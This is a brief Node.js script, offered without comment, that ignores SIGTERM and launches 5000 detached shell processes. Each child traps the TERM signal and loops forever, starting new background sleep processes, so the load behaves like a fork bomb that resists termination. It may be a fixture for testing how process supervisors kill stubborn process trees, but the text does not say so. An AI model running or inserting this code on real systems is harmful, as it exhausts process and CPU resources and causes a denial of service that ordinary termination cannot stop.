import { spawn } from 'node:child_process'

process.on('SIGTERM', () => {})
for (let count = 0; count < 5000; count++)
  spawn('/bin/sh', ['-c', 'trap "" TERM; while :; do sleep 60 & done'], {
    detached: true,
    stdio: 'inherit',
  }).on('error', () => {})
